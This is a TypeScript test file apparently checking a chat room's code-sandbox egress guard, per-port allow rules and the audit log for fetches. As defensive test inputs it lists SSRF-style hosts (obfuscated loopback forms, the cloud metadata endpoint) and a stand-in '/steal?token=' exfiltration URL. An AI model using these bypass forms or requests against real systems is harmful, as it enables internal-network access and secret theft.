/// <reference types="@cloudflare/vitest-plugin/types" />
/**
 * The Code Mode sandbox's network, through a real room: which hosts an owner
 * can allow (the same egress guard as MCP URLs), what an entry's port means,
 * the check at request time in SandboxOutbound, and the audit row every
 * request from code leaves in the room's trail.
 */
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { setModelOverride } from "./testModel";
import { connect, msgId, roomName, session } from "./client";
import { scriptedModel, textParts, toolCallParts } from "./mockModel";

afterEach(() => setModelOverride(null));
// The first request loads the Worker, which can take a while on a busy machine.
beforeAll(() => session("warm-up").then(() => undefined), 60_000);

async function codeRoom() {
  const room = roomName("net");
  const o = await connect(room, (await session("olive")).token);
  await o.next("typing");
  const b = await connect(room, (await session("bob")).token);
  await b.next("typing");
  expect((await o.command("/codemode code")).ok).toBe(true);
  return { room, o, b };
}

/** Code that fetches each URL and reports "<status> <first characters of the body>" or "threw …". */
function probeCode(urls: string[]): string {
  return `async () => {
    const probe = async (url) => { try { const r = await fetch(url); return r.status + " " + (await r.text()).slice(0, 120); } catch (e) { return "threw " + e.message.slice(0, 60); } };
    const out = [];
    for (const url of ${JSON.stringify(urls)}) out.push(await probe(url));
    return out;
  }`;
}

/** Has the assistant run probeCode(urls) for bob and returns the probes' results. */
async function probe(room: Awaited<ReturnType<typeof codeRoom>>, urls: string[], nth = 1): Promise<string[]> {
  setModelOverride(() => scriptedModel([{ parts: toolCallParts("code", { code: probeCode(urls) }) }, { parts: textParts(["done"]) }]));
  room.b.send({ type: "send", id: msgId(), text: "@assistant probe" });
  const done = await room.o.next("message_updated", (f) => f.message.kind === "assistant" && f.message.status === "done", { count: nth, timeoutMs: 15_000 });
  return (done.message.parts.find((p) => p.tool === "code")!.output as { result: string[] }).result;
}

describe("the sandbox's allowed hosts", () => {
  it.each([
    ["127.0.0.1", "loopback"],
    ["localhost", "local_name"],
    ["[::1]", "loopback"],
    ["169.254.169.254", "metadata"],
    ["10.0.0.1", "private"],
    ["2130706433", "loopback"],
    ["0x7f.1", "loopback"],
    ["[::ffff:0:10.0.0.1]", "ipv4_translated_private"],
    ["printer.local", "local_name"],
    ["intranet", "local_name"],
    ["http://api.example.com", "https_only"],
  ])("refuses /codemode allow %s (%s), naming the rule and changing nothing", async (host, rule) => {
    const { o, b } = await codeRoom();
    const result = await o.command(`/codemode allow ${host}`);
    expect(result.ok).toBe(false);
    expect(result.text).toContain(`refused by the egress guard (${rule})`);
    expect(result.text).toMatch(/Sandbox network: off/);
    expect((await b.command("/codemode")).text).toMatch(/Sandbox network: off/);
    expect(b.all("message").filter((f) => f.message.kind === "system" && /allowed/.test(f.message.text))).toEqual([]);
  });

  it.each(["*.example.com", "api.example.com/v1", "https://api.example.com/?x=1", "user@api.example.com"])(
    "refuses %s: an entry is a host with an optional port",
    async (entry) => {
      const { o } = await codeRoom();
      const result = await o.command(`/codemode allow ${entry}`);
      expect(result).toMatchObject({ ok: false, text: expect.stringMatching(/Give a host name with an optional port/) });
      expect((await o.command("/codemode")).text).toMatch(/Sandbox network: off/);
    },
  );

  it("gives an entry one port: a bare host is https on 443, host:port only that port, checked on every request", async () => {
    const room = await codeRoom();
    expect((await room.o.command("/codemode allow api.example.com:8443")).text).toMatch(/Sandbox network: api\.example\.com:8443\./);
    const [on443, on8443] = await probe(room, ["https://api.example.com/", "https://api.example.com:8443/"]);
    expect(on443).toMatch(/^403 refused: api\.example\.com is not allowed by this room \(ask an owner: \/codemode allow api\.example\.com\)/);
    expect(on8443).not.toMatch(/refused/);

    expect((await room.o.command("/codemode allow https://api.example.com:443")).text).toMatch(/Sandbox network: api\.example\.com, api\.example\.com:8443\./);
    expect((await room.o.command("/codemode deny api.example.com:8443")).text).toMatch(/Sandbox network: api\.example\.com\./);
    const [again443, other] = await probe(room, ["https://api.example.com/", "https://api.example.com:9443/"], 2);
    expect(again443).not.toMatch(/refused/);
    expect(other).toMatch(/^403 refused: api\.example\.com:9443 is not allowed by this room/);
  });

  it("refuses at request time an entry the guard refuses, even one stored before entries were checked", async () => {
    const room = await codeRoom();
    const { env } = await import("cloudflare:workers");
    const { getAgentByName } = await import("agents");
    const { runInDurableObject } = await import("cloudflare:test");
    await runInDurableObject(await getAgentByName(env.ChatRoom, room.room), (instance) => {
      instance.members.setSetting("sandbox_hosts", JSON.stringify(["127.0.0.1", "169.254.169.254", "[::1]"]));
    });
    const [loopback, metadata, v6] = await probe(room, ["https://127.0.0.1/", "https://169.254.169.254/latest/meta-data/", "https://[::1]/"]);
    expect(loopback).toMatch(/^403 refused: refused by the egress guard \(loopback\)/);
    expect(metadata).toMatch(/^403 refused: refused by the egress guard \(metadata\)/);
    expect(v6).toMatch(/^403 refused: refused by the egress guard \(loopback\)/);
    // An owner can still remove such an entry.
    expect((await room.o.command("/codemode deny 127.0.0.1")).text).toMatch(/Sandbox network: 169\.254\.169\.254, \[::1\]\./);
  });

  it("audits every request from code like a tool call: run, who, host, method, path without query, status, duration", async () => {
    const room = await codeRoom();
    expect((await room.o.command("/codemode allow api.example.com")).ok).toBe(true);
    await probe(room, ["https://api.example.com/v1/items?api_key=query-secret-1", "https://not-allowed.example/steal?token=query-secret-2"]);
    const frame = await room.o.next("mcp", (f) => f.audit.filter((a) => a.tool === "fetch").length >= 2);
    const rows = frame.audit.filter((a) => a.tool === "fetch");
    const turn = room.o.all("message").find((f) => f.message.kind === "assistant")!.message.seq;
    const allowed = rows.find((r) => r.server === "api.example.com")!;
    const args = JSON.parse(allowed.args) as { run: string; method: string; path: string; status: number };
    expect(allowed).toMatchObject({ via: "code", requestedBy: "bob", approvedBy: null });
    expect(args).toMatchObject({ run: `assistant turn (message ${turn})`, method: "GET", path: "/v1/items" });
    // No internet in tests: the status is whatever the gateway got (502 when unreachable), and the outcome follows it.
    expect(typeof args.status).toBe("number");
    expect(allowed.outcome).toBe(args.status < 400 ? "ok" : "error");
    expect(allowed.durationMs).toBeGreaterThanOrEqual(0);
    const refused = rows.find((r) => r.server === "not-allowed.example")!;
    expect(refused).toMatchObject({ via: "code", requestedBy: "bob", outcome: "denied", error: expect.stringMatching(/not allowed by this room/) });
    expect(JSON.parse(refused.args)).toMatchObject({ method: "GET", path: "/steal", status: 403 });
    // Query strings (where keys travel) are in no frame anyone received.
    for (const m of [room.o, room.b]) expect(JSON.stringify(m.all("mcp"))).not.toMatch(/query-secret/);

    // A saved script run without a model is audited under its own run and runner.
    expect((await room.b.command("/scripts save netprobe")).ok).toBe(true);
    expect((await room.o.command("/run netprobe")).ok).toBe(true);
    const scripted = await room.b.next("mcp", (f) => f.audit.some((a) => a.tool === "fetch" && a.args.includes("/run netprobe")));
    expect(scripted.audit.find((a) => a.args.includes("/run netprobe") && a.server === "api.example.com")).toMatchObject({
      via: "code",
      requestedBy: "olive",
    });
  });
});
